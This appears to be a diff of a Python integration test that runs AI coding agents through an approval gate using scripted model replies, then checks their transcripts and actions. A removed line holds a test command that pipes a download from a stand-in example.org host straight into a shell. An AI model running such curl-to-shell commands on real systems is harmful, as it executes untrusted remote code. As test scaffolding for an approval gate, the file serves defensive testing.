@@ -39,8 +39,8 @@ team, by = Team.objects.get(slug="main"), Actor.system("bench")
 for name in ("anthropic", "openai"):
     secrets.put(team, f"KEY_{name.upper()}", "models", f"key-of-{name}-0123456789", by=by)
 """
-# It asks in every mode, and what it does shows in a file of the workspace: the rest fails without a network.
-ASKS = "echo {word} >> ran.txt; curl -fsS --max-time 2 https://{word}.example.org/install | sh"
+# It asks one person in every mode, and what it does shows in a file of the workspace; the push itself fails.
+ASKS = "echo {word} >> ran.txt; git push origin {word}"
 FIRST, SECOND = ASKS.format(word="first"), ASKS.format(word="second")
 PROGRAM = f"PYTHONPATH=packages python3 program.py {FIRST!r} {SECOND!r}"
 WITHIN = 300  # seconds for each step that waits for nobody
@@ -51,6 +51,7 @@ def main() -> int:
     parser.add_argument("folder", type=Path, help="where deploy/agents.sh has put the programs")
     parser.add_argument("--wait", type=int, default=90, metavar="SECONDS", help="until the late approval (90)")
     asked = parser.parse_args()
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))  # so that what was started is ended
     if why := lacks():
         print(why, file=sys.stderr)
         return 2
@@ -80,7 +81,8 @@ class Night:
     def __init__(self, home: Path, engine: str, wait: int):
         self.wait, self.model, self.faults = wait, Model(), []
         self.model.scripts = {
-            "[claude]": [[run(FIRST)], [run(SECOND)], *[[say("Both have run.")]] * 4],
+            # In a container Claude Code is gated over HTTP: a call is refused when the desk is killed, and made again.
+            "[claude]": [[run(FIRST)], first_again, [run(SECOND)], *[[say("Both have run.")]] * 4],
             "[codex]": [[run(FIRST)], [run(SECOND)], *[[say("Both have run.")]] * 4],
         }
         upstreams = f"anthropic={self.model.url} openai={self.model.url}"
@@ -143,7 +145,7 @@ class Night:
         agent = {"kind": "agent", "task": "[{}] Run both."}
         jobs = {
             "claude": agent | {"program": "claude-code", "model": "claude-sonnet-4-5", "task": "[claude] Run both."},
-            "codex": agent | {"program": "codex", "model": "gpt-5", "task": "[codex] Run both.", "budget_tokens": 1045},
+            "codex": agent | {"program": "codex", "model": "gpt-5", "task": "[codex] Run both.", "budget_tokens": 1030},
             "langgraph": {"kind": "command", "command": PROGRAM},
         }
         for key, job in jobs.items():
@@ -212,7 +214,8 @@ class Night:
         for key in ("claude", "codex"):
             done = self.until(f"{key} is done", lambda key=key: self.is_done(key))
             self.expect(f"the summary of {key}", done["summary"], "Both have run.")
-            self.expect(f"the calls in the conversation of {key}", self.said(done), [FIRST, SECOND])
+            again = [FIRST] if key == "claude" else []
+            self.expect(f"the calls in the conversation of {key}", self.said(done), [FIRST, *again, SECOND])
         schedules = self.call("GET", "/schedules")["schedules"]
         for each in schedules:
             runs = self.until(f"{each['name']} has ended", lambda each=each: self.ended_runs(each))
@@ -220,8 +223,10 @@ class Night:
         for key in ("claude", "codex", "langgraph"):
             self.expect(f"what ran in {key}", self.ran(key), ["first", "second"])
             actions = self.call("GET", f"/actions?workspace={key}")["actions"]
-            asked = [each for each in actions if "example.org" in each["title"]]
-            self.expect(f"the calls of {key} that asked", sorted(each["status"] for each in asked), ["succeeded"] * 2)
+            asked = [each for each in actions if each["tier"] == "high"]
+            ends = sorted(each["status"] for each in asked)
+            # The push fails, which Codex and the LangGraph program do not report.
+            self.expect(f"the calls of {key} that asked", set(ends) <= {"succeeded", "failed"} and len(ends) == 2, True)
         for fault in self.faults:
             print("FAULT:", fault)
         self.say(f"the morning: {len(self.faults)} faults")
@@ -243,7 +248,7 @@ class Night:
             results = {each["call_id"] for each in messages if each["kind"] == "result"}
             told = [each for each in messages if each["kind"] == "call" and each["call_id"] in results]
             commands = [next(iter(json.loads(each["text"]).values())) for each in told]
-            return commands if len(commands) == 2 else None
+            return commands if SECOND in commands else None
 
         try:
             return self.until("the transcript is read", calls, within=60)
@@ -253,6 +258,11 @@ class Night:
     def expect(self, what: str, found, wanted):
         if found != wanted:
             self.faults.append(f"{what}: {found!r}, not {wanted!r}")
+
+
+def first_again() -> list[dict]:
+    time.sleep(20)  # until the desk is back
+    return [run(FIRST)]
 
 
 def packed_program() -> bytes:
